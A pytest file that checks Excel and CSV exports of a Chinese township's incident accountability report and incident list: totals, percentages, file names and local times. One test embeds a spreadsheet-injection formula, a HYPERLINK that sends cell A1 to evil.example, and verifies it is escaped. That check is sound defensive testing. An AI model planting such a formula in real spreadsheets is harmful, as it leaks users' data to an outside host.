"""The Excel and CSV tables (starter/sheets.py, issue 19 item 2): the accountability report
(R-ACCOUNT, R-COMMEND) and the incident list, opened again with openpyxl."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from typing import Any
from urllib.parse import unquote
from zoneinfo import ZoneInfo

from openpyxl import load_workbook

from plan.roster import Roster
from starter import sheets
from store.models import Incident

TZ = ZoneInfo("Asia/Shanghai")
UNITS: list[dict[str, Any]] = [
    {
        "unit": "cjb",
        "unit_name": "村镇建设办",
        "on_time": 1,
        "late": 1,
        "missed": 2,
        "pending": 0,
        "on_time_rate": 0.25,
        "records": {"逾期": 3, "迟报": 1},
        "voided": 1,
        "commendations": [],
    },
    {
        "unit": "sswb",
        "unit_name": "社会事务办",
        "on_time": 3,
        "late": 0,
        "missed": 0,
        "pending": 2,
        "on_time_rate": 1.0,
        "records": {},
        "voided": 0,
        "commendations": [{"person": "xu.lei"}],
    },
    {
        "unit": "zdb",
        "unit_name": "党政办",
        "on_time": 0,
        "late": 0,
        "missed": 0,
        "pending": 1,
        "on_time_rate": None,
        "records": {},
        "voided": 0,
        "commendations": [],
    },
]


def _open(data: bytes) -> Any:
    return load_workbook(io.BytesIO(data)).active


def test_accountability_xlsx_title_headers_numbers_rates_and_total() -> None:
    """R-ACCOUNT: numbers are numbers, rates fractions shown as '0.0%', the 合计 row sums."""
    table = sheets.accountability_table("清溪镇", date(2026, 11, 1), date(2026, 11, 30), UNITS)
    ws = _open(sheets.xlsx_bytes(table))
    assert ws["A1"].value.startswith("清溪镇舆情处置问责统计（2026-11-01至2026-11-30")
    headers = [c.value for c in ws[2]]
    assert headers[:3] == ["单位", "单位代码", "按期完成"] and "瞒报" in headers
    assert ws.freeze_panes == "A3"
    rows = [[c for c in r] for r in ws.iter_rows(min_row=3)]
    assert [r[0].value for r in rows] == ["村镇建设办", "社会事务办", "党政办", "合计"]
    col = {h: i for i, h in enumerate(headers)}
    for r in rows:
        for h in ("按期完成", "逾期完成", "未完成（已逾期）", "未到期", "逾期", "表扬"):
            assert isinstance(r[col[h]].value, int), (h, r[col[h]].value)
        rate = r[col["按期完成率"]]
        assert rate.number_format == "0.0%"
        assert rate.value is None or (isinstance(rate.value, int | float) and 0 <= rate.value <= 1)
    body, total = rows[:-1], rows[-1]
    for h in ("按期完成", "逾期完成", "未完成（已逾期）", "未到期", "逾期", "迟报", "表扬"):
        assert total[col[h]].value == sum(r[col[h]].value for r in body), h
    assert total[col["已作废（误报撤销）"]].value == 1
    assert abs(total[col["按期完成率"]].value - round(4 / 7, 4)) < 1e-9  # 4 on time of 7 counted
    assert rows[2][col["按期完成率"]].value is None  # nothing counted: no rate, not 0%
    # Column widths fit Chinese text: 未完成（已逾期） is 8 CJK characters, 16 wide.
    assert ws.column_dimensions["E"].width >= 16


def test_accountability_csv_has_the_total_row() -> None:
    table = sheets.accountability_table("清溪镇", date(2026, 11, 1), date(2026, 11, 30), UNITS)
    data = sheets.csv_bytes(table)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == sheets.ACCOUNT_HEADERS
    assert rows[1][6] == "25.0%" and rows[3][6] == ""
    assert rows[-1][0] == "合计" and rows[-1][2] == "4" and rows[-1][6] == "57.1%"


def test_file_names_and_content_disposition() -> None:
    name, fallback = sheets.accountability_filename(
        "清溪镇", date(2026, 11, 1), date(2026, 11, 30), "xlsx"
    )
    assert name == "清溪镇舆情问责统计_2026-11-01至2026-11-30.xlsx"
    header = sheets.content_disposition(name, fallback)
    assert header.startswith('attachment; filename="accountability_2026-11-01_2026-11-30.xlsx"')
    encoded = header.split("filename*=UTF-8''", 1)[1]
    assert unquote(encoded) == name and encoded.isascii()
    listed, _ = sheets.incident_filename("清溪镇", "村镇建设办", date(2026, 11, 30), "xlsx")
    assert listed == "清溪镇舆情事件列表_村镇建设办_2026-11-30.xlsx"
    assert sheets.safe_name('a/b:"c"') == "a_b__c_"


def test_incident_list_xlsx_has_local_datetimes(roster: Roster) -> None:
    found = datetime(2026, 11, 30, 1, 5, tzinfo=UTC)  # 09:05 in Beijing
    incident = Incident(
        id="inc-1",
        short_number="2026-1130-001",
        title="积水",
        severity="urgent",
        category="hype",
        phase="handling",
        responsible_unit="cjb",
        reporter_unit="cjb",
        discovered_at=found,
        received_at=datetime(2026, 11, 30, 1, 20, tzinfo=UTC),
        next_due_at=None,
        overdue=True,
        drill=False,
    )
    table = sheets.incident_table("清溪镇", roster, TZ, [incident], title_note="导出于2026-11-30")
    ws = _open(sheets.xlsx_bytes(table))
    assert ws["A1"].value == "清溪镇舆情事件列表（导出于2026-11-30）"
    assert [c.value for c in ws[2]] == sheets.INCIDENT_HEADERS
    row = [c for c in ws[3]]
    assert row[1].value == "inc-1" and row[3].value == "紧急" and row[5].value == "处置中"
    assert row[8].value == datetime(2026, 11, 30, 9, 5) and row[8].is_date
    assert row[8].number_format == "yyyy-mm-dd hh:mm"
    assert row[10].value is None and row[11].value == "是"
    assert [c.value for c in ws[4]][:2] == ["合计", "1件"]


def test_text_that_looks_like_a_formula_stays_text() -> None:
    """A title from an anonymous submission never becomes a formula (spreadsheet injection):
    in Excel a text cell, in CSV prefixed with an apostrophe (OWASP's advice)."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    table = sheets.Table(
        title="清溪镇舆情事件列表", headers=["标题", "件数"], rows=[[evil, 1], ["+1", -2]]
    )
    ws = _open(sheets.xlsx_bytes(table))
    assert ws["A3"].value == evil and ws["A3"].data_type == "s"
    assert ws["A4"].value == "+1" and ws["B4"].value == -2
    rows = list(csv.reader(io.StringIO(sheets.csv_bytes(table).decode("utf-8-sig"))))
    assert rows[1] == ["'" + evil, "1"] and rows[2] == ["'+1", "-2"]


def test_control_characters_do_not_break_the_workbook() -> None:
    """A search typed with a control character (it ends up in the title row) is dropped from
    the cell rather than failing the export (openpyxl refuses such characters)."""
    table = sheets.Table(
        title="清溪镇舆情事件列表（搜索：积\x01水）", headers=["标题"], rows=[["a\x0bb"]]
    )
    ws = _open(sheets.xlsx_bytes(table))
    assert ws["A1"].value == "清溪镇舆情事件列表（搜索：积水）" and ws["A3"].value == "ab"
